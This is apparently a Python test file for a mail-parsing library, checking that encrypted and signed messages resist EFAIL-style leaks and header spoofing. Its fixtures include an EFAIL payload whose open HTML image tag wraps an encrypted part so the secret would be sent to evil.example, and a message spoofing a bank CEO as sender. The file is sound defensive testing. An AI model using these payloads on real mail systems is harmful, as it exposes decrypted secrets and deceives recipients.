"""Encrypted and signed mail: parts stay apart, nothing is taken for what it claims, nothing asks the network."""

from protocols.mime.digest import digest
from protocols.mime.read import document

EFAIL = (
    b"From: eve@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    b'--b\r\nContent-Type: text/html\r\n\r\n<p>Hello</p><img src="http://evil.example/\r\n'
    b'--b\r\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=c\r\n\r\n'
    b"--c\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
    b"--c\r\nContent-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\nSECRET\r\n--c--\r\n"
    b'--b\r\nContent-Type: text/html\r\n\r\n"><p>Bye</p>\r\n--b--\r\n'
)
PROTECTED = (
    b"From: eve@example.org\r\nSubject: ...\r\nMIME-Version: 1.0\r\n"
    b'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary=b\r\n'
    b"Autocrypt: addr=ceo@bank.example; keydata=AAAA\r\n\r\n"
    b'--b\r\nContent-Type: text/plain; protected-headers="v1"\r\nSubject: inner\r\nFrom: ceo@bank.example\r\n\r\n'
    b"the text\r\n--b\r\nContent-Type: application/pgp-signature\r\n\r\n-----BEGIN PGP SIGNATURE-----\r\n--b--\r\n"
)


def test_html_parts_are_never_joined_around_an_encrypted_one():
    """E01: the link that EFAIL opens before a secret part is not closed behind it."""
    shown = document(EFAIL, prefer="html")
    text = "\n".join(block.text for block in shown.blocks)
    assert "Hello" in text and "Bye" in text
    assert not any("SECRET" in link.url or "evil.example" in link.url for link in shown.links)


def test_headers_inside_a_signed_part_replace_none_and_keys_in_headers_mean_nothing():
    """E06: the outer subject and sender are shown; an Autocrypt header changes nothing."""
    known, shown = digest(PROTECTED), document(PROTECTED)
    assert (known.subject, known.sender.address) == ("...", "eve@example.org")
    said = "\n".join(block.text for block in shown.blocks)
    assert "the text" in said and "keydata" not in said and "ceo@bank" not in said
